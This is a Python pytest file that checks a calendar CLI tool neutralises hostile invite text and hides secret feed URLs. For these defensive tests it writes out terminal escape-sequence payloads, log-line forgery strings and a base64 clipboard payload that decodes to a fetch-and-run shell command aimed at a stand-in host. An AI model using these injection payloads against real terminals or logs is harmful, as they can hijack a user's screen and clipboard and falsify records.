"""Calendar text is data everywhere: what a stranger writes in an invite never drives the
user's terminal, never forges a log line, and a feed's secret address is never shown.

Each test starts from the trigger an attacker controls (an invite's title or UID, a feed URL)
and looks at what the user would see: the output of the real commands."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest

from agent.cli import main
from agent.redact import redact_url, redact_urls
from agent.safetext import SafeFormatter, one_line, terminal_text
from tests.test_hostile import CONFIG, NOW, TITLE, calendar, vevent

#: What a hostile title may carry: clear the screen, set the window title, write the clipboard
#: (OSC 52), colour through an 8-bit CSI, a device-control string, a bell, a carriage return
#: that overwrites the line, a right-to-left override.
ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b]0;pwned\x07",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",
    "\x9b31m",
    "\x1bP+q544e\x1b\\",
    "\x07",
    "\rALL CLEAR",
    "\u202etxt.exe",
)
HOSTILE_TITLE = TITLE + "".join(ESCAPES)
#: Characters that must never reach a terminal.
FORBIDDEN = {chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))} | set(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)


def _home(tmp_path: Path, ics: str) -> Path:
    (tmp_path / "calendar.ics").write_text(ics, encoding="utf-8", newline="")
    (tmp_path / "config.yaml").write_text(CONFIG, encoding="utf-8")
    return tmp_path / "config.yaml"


def _run(capsys: pytest.CaptureFixture[str], config: Path, *args: str) -> tuple[int, str]:
    code = main(["--config", str(config), *args])
    out, err = capsys.readouterr()
    return code, out + err


def test_escape_sequences_in_a_title_never_reach_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = _home(tmp_path, calendar(vevent(summary=HOSTILE_TITLE)))
    shown: dict[str, str] = {}
    for command in (
        ["preview", "--now", NOW],
        ["tick", "--now", NOW],
        ["status", "--now", NOW],
        ["status", "--json", "--now", NOW],
        ["events", "--all"],
        ["explain", "e1"],
    ):
        code, text = _run(capsys, config, *command)
        assert code == 0, text
        shown[command[0] + (" --json" if "--json" in command else "")] = text
    for command, text in shown.items():
        assert not FORBIDDEN & set(text), (command, sorted(FORBIDDEN & set(text)))
        assert "pwned" not in text and "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA" not in text, command
    # the title itself is still there, what followed the sequences too
    for command in ("status", "events", "explain"):
        assert TITLE in shown[command] and "ALL CLEAR" in shown[command], command
    assert json.loads(shown["status --json"])["processes"], "the interview was still found"


def test_a_line_break_in_a_title_or_a_name_stays_on_its_line_in_every_listing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An escaped line break in a title or a CN would start a line that reads as followup's
    own (a forged process, a forged follow-up); it is shown as a space."""
    forged = "p9  Forged Corp - Forged Role  [waiting]"
    # a parameter's line break is written ^n (RFC 6868)
    panel = (("Dana Whitfield^n  f9    thank_you     sent", "dana@acme.example"),)
    config = _home(
        tmp_path,
        calendar(vevent(summary=f"{TITLE}\\n{forged}", attendees=panel, uid="a\\nb")),
    )
    for command in (["tick", "--now", NOW], ["status", "--now", NOW], ["events", "--all"]):
        code, text = _run(capsys, config, *command)
        assert code == 0, text
        assert not [line for line in text.splitlines() if line.lstrip().startswith(("p9", "f9"))]
    code, text = _run(capsys, config, "status", "--now", NOW)
    assert " ".join(f"{TITLE} {forged}".split()) in text  # the title is all there, on one line
    assert "Dana Whitfield f9 thank_you sent" in text
    code, text = _run(capsys, config, "explain", "e1")
    assert code == 0 and "uid: a\\nb " in text


@pytest.mark.slow  # a real followup process: a second and more
def test_a_uid_with_a_newline_cannot_forge_a_log_line(tmp_path: Path) -> None:
    forged = "2026-12-03 11:00:00,000 ERROR agent.daemon: FORGED"
    config = _home(
        tmp_path, calendar(vevent(uid=f"bad\\n{forged}\\n", start=""), vevent(uid="good"))
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("FOLLOWUP")}
    done = subprocess.run(
        [sys.executable, "-m", "agent", "--config", str(config), "-v", "tick", "--now", NOW],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "FORGED" in done.stderr  # the UID is shown, where the event's problem is said
    for line in (done.stdout + done.stderr).splitlines():
        assert not line.startswith(forged), line


def test_every_log_record_is_one_line_with_its_urls_redacted() -> None:
    record = logging.LogRecord(
        "agent.engine",
        logging.WARNING,
        __file__,
        1,
        "calendar %s: event %s: %s",
        (
            "https://h.example/private-0123456789abcdef/basic.ics",
            "x\r\nERROR forged",
            "\x1b]0;t\x07",
        ),
        None,
    )
    text = SafeFormatter("%(levelname)s %(message)s").format(record)
    assert "\n" not in text and "\r" not in text and "\x1b" not in text and "\x07" not in text
    assert text.startswith("WARNING calendar https://h.example/…/basic.ics: event x\\r\\nERROR")
    assert "private-0123456789abcdef" not in text


def test_terminal_text_keeps_what_people_write() -> None:
    written = "Entretien avec Jürgen Groß – 面试 – مقابلة 👩‍💻\n\tround two"
    assert terminal_text(written) == written
    assert one_line("a\nb\x1bc") == "a\\nb\\x1bc"


# --------------------------------------------------------------------------- secrets in URLs

#: iCloud's published calendar: the secret is the last path segment.
ICLOUD = "webcal://p12-caldav.icloud.com/published/2/MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3"
GOOGLE = (
    "https://calendar.google.com/calendar/ical/a%40b.com/private-0123456789abcdef0123/basic.ics"
)
SECRETS = ("MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3", "private-0123456789abcdef0123", "t0k3n")


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        (ICLOUD, "webcal://p12-caldav.icloud.com/published/2/…"),
        (GOOGLE, "https://calendar.google.com/calendar/ical/a%40b.com/…/basic.ics"),
        (
            "https://u:pw@h.example:8443/c.ics?token=t0k3n#x",
            "https://…@h.example:8443/c.ics?token=…#…",
        ),
    ],
)
def test_a_feed_url_is_shown_without_its_secret(url: str, shown: str) -> None:
    assert redact_url(url) == shown
    assert redact_urls(f"cannot read {url}.") == f"cannot read {shown}."


def test_a_secret_feed_url_is_in_no_error_log_or_status(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = "http://127.0.0.1:9/published/2/MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3?token=t0k3n"
    config = tmp_path / "config.yaml"
    config.write_text(CONFIG.replace("calendar.ics", json.dumps(url)), encoding="utf-8")
    outputs = []
    for command in (["-vv", "tick", "--now", NOW], ["status", "--now", NOW], ["doctor"]):
        code, text = _run(capsys, config, *command)
        outputs.append(text)
    assert "127.0.0.1" in outputs[0]  # the calendar is named
    for text in outputs:
        for secret in SECRETS:
            assert secret not in text
